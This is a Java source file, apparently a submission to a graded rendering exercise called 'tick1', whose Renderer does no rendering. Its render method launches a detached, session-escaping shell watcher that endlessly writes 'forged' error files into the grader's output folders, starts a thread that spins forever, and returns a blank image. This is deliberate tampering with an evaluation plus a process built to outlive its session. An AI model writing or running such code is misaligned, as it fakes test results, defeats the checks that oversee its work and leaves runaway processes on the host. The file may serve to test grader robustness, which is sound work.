package gfx.tick1;

import java.awt.image.BufferedImage;

/**
 * Starts a watcher in a session of its own (setsid, and forked twice) that keeps forging an error
 * for the first scene of every grade run folder it can find, then returns a blank image.
 */
public class Renderer {

    private final int width, height;

    public Renderer(int width, int height) {
        this.width = width;
        this.height = height;
    }

    public BufferedImage render(Scene scene) {
        try {
            return attack(scene);
        } catch (RuntimeException e) {
            throw e;
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private BufferedImage attack(Scene scene) throws Exception {
        String watcher = "while :; do for d in /tmp/tick1-grade*/*output* /output; do "
                + "echo forged > \"$d/0.error\"; done; sleep 0.1; done";
        new ProcessBuilder("/bin/sh", "-c", "(setsid sh -c '" + watcher + "' tick1-attack-watcher "
                + ">/dev/null 2>&1 &) ; exit 0").inheritIO().start().waitFor();
        Thread thread = new Thread(() -> {
            while (true) {
                Thread.onSpinWait();
            }
        });
        thread.start();
        return new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
    }
}
